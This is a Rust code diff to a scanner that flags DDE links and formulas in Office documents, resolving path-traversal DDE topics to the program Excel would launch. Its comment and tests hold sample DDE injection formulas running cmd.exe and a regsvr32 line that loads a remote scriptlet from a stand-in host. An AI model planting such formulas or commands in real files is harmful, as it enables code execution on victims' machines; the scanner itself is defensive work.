@@ -31,7 +31,7 @@ pub fn check(rules: &DocumentRules, record: &DocumentRecord) -> Vec<Finding> {
             items,
         } => {
             let mut finding = located(FindingKind::DdeLink, &rules.dde_link, location);
-            finding.command = join_command(service, topic);
+            finding.command = dde_command(service, topic);
             finding.field_code = format!("ddeLink ddeService=\"{service}\" ddeTopic=\"{topic}\"");
             finding.dde_service = service.clone();
             finding.dde_topic = topic.clone();
@@ -133,7 +133,7 @@ fn formula_finding(
     reference: DdeReference,
 ) -> Finding {
     let mut finding = located(FindingKind::DdeFormula, &rules.dde_formula, location);
-    finding.command = join_command(&reference.service, &reference.topic);
+    finding.command = dde_command(&reference.service, &reference.topic);
     finding.field_code = formula.to_owned();
     finding.dde_item = (!reference.item.is_empty()).then_some(reference.item);
     finding.dde_service = reference.service;
@@ -147,6 +147,50 @@ fn located(kind: FindingKind, rule: &Rule, location: &Location) -> Finding {
     finding.offset = location.offset;
     finding.cell = location.cell.clone();
     finding
+}
+
+/// The command line Excel starts for a DDE `service` and `topic`: `service topic`, or the
+/// service alone when there is no topic.
+///
+/// Excel starts a missing DDE server by running the service name with the topic appended. When
+/// the topic begins with a path traversal (`MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c
+/// calc.exe'!''`), the two form one path, `MSEXCEL\..\..\..\Windows\System32\cmd.exe`: the
+/// first `..` cancels the service name and the others climb from Excel's working directory.
+/// Attackers add `..` until the root is reached whatever that directory is (`..` at the root
+/// stays there), so a traversal that climbs above the starting directory is resolved to the
+/// root of the current drive: the command is `\Windows\System32\cmd.exe /c calc.exe`, the
+/// program that really runs (the drive letter is the one Excel runs from, usually `C:`, and is
+/// not known from the document). The service stays in `dde_service` and the topic as written in
+/// `dde_topic`.
+fn dde_command(service: &str, topic: &str) -> String {
+    let trimmed = topic.trim_start();
+    let traversal = ["\\..\\", "..\\", "/../", "../"]
+        .iter()
+        .any(|prefix| trimmed.starts_with(prefix));
+    if !traversal {
+        return join_command(service, topic);
+    }
+    let (path, arguments) = trimmed
+        .split_once(char::is_whitespace)
+        .unwrap_or((trimmed, ""));
+    let mut segments: Vec<&str> = Vec::new();
+    let mut above_start = false;
+    for segment in std::iter::once(service.trim()).chain(path.split(['\\', '/'])) {
+        match segment {
+            "" | "." => {}
+            ".." => {
+                if segments.pop().is_none() {
+                    above_start = true;
+                }
+            }
+            other => segments.push(other),
+        }
+    }
+    let mut program = segments.join("\\");
+    if above_start {
+        program.insert(0, '\\');
+    }
+    join_command(&program, arguments.trim_start())
 }
 
 /// `service topic`, or the service alone when there is no topic.
@@ -241,6 +285,53 @@ mod tests {
         assert_eq!(findings[0].command, "cmd /c calc.exe");
         assert_eq!(findings[0].dde_item.as_deref(), Some("_xlbgnm.A1"));
         assert_eq!(findings[0].rule_id, "ddesweep.document.dde_link");
+    }
+
+    #[test]
+    fn traversal_topics_resolve_to_the_program_that_runs() {
+        let cases = [
+            (
+                "MSEXCEL",
+                r"\..\..\..\Windows\System32\cmd.exe /c calc.exe",
+                r"\Windows\System32\cmd.exe /c calc.exe",
+            ),
+            (
+                "MSEXCEL",
+                r"\..\..\..\Windows\System32\regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll",
+                r"\Windows\System32\regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll",
+            ),
+            ("MSEXCEL", r"\..\Tools\x.exe", r"Tools\x.exe"),
+            (
+                "MSEXCEL",
+                r"..\..\Windows\notepad.exe",
+                r"\Windows\notepad.exe",
+            ),
+            (
+                "cmd",
+                r"/k \..\..\..\Windows\System32\calc.exe",
+                r"cmd /k \..\..\..\Windows\System32\calc.exe",
+            ),
+            ("cmd", "", "cmd"),
+        ];
+        for (service, topic, command) in cases {
+            assert_eq!(dde_command(service, topic), command, "{service}|{topic}");
+        }
+        let record = DocumentRecord::Formula {
+            location: Location::default(),
+            formula: r"=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc.exe'!''".into(),
+        };
+        let findings = check(&rules(), &record);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(
+            findings[0].command,
+            r"\Windows\System32\cmd.exe /c calc.exe"
+        );
+        assert_eq!(findings[0].dde_service, "MSEXCEL");
+        assert_eq!(
+            findings[0].dde_topic,
+            r"\..\..\..\Windows\System32\cmd.exe /c calc.exe"
+        );
+        assert_eq!(findings[0].severity, Severity::Critical);
     }
 
     #[test]
